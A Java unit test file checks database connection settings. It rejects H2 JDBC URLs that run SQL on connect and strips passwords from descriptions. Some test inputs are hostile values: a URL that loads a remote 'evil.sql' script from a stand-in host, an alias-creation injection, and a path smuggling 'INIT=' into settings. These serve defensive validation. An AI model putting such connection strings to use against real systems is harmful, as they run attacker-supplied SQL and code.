package dev.parley.persistence;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseSettingsTest {

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:mysql://localhost/parley", "jdbc:sqlite:parley.db", "postgresql://localhost/parley", ""})
    void urlOfAnyOtherDatabaseIsRejected(String url) {
        assertThatThrownBy(() -> new DatabaseSettings(url, "u", "p", 5))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("jdbc:h2:")
                .hasMessageContaining("jdbc:postgresql:");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.invalid/evil.sql'",
        "jdbc:h2:file:/tmp/x;init=CREATE ALIAS X AS 'x'"})
    void h2UrlThatRunsSqlOnConnectIsRejected(String url) {
        assertThatThrownBy(() -> new DatabaseSettings(url, "sa", "", 5))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("INIT=");
    }

    @Test
    void h2FileDatabaseLivesInTheDataDirectoryAndWritesEachCommitAtOnce(@org.junit.jupiter.api.io.TempDir Path dir) {
        DatabaseSettings settings = DatabaseSettings.h2File(dir);

        assertThat(settings.jdbcUrl()).startsWith("jdbc:h2:file:" + dir.toAbsolutePath() + "/parley;")
                .contains(";WRITE_DELAY=0")
                .doesNotContainIgnoringCase("INIT=");
        assertThat(settings.isPostgres()).isFalse();
    }

    @Test
    void dataDirectoryWithASemicolonCannotSmuggleH2Settings() {
        assertThatThrownBy(() -> DatabaseSettings.h2File(Path.of("/tmp/data;INIT=x")))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void postgresUrlSelectsPostgres() {
        assertThat(new DatabaseSettings("jdbc:postgresql://db:5432/parley", "parley", "secret", 10).isPostgres()).isTrue();
    }

    @Test
    void poolNeedsAtLeastOneConnection() {
        assertThatThrownBy(() -> new DatabaseSettings("jdbc:postgresql://db/parley", "u", "p", 0))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void passwordAndUrlParametersStayOutOfTheDescription() {
        DatabaseSettings settings =
                new DatabaseSettings("jdbc:postgresql://db/parley?password=url-secret", "parley", "field-secret", 10);

        assertThat(settings.toString()).contains("jdbc:postgresql://db/parley")
                .doesNotContain("url-secret").doesNotContain("field-secret");
    }
}
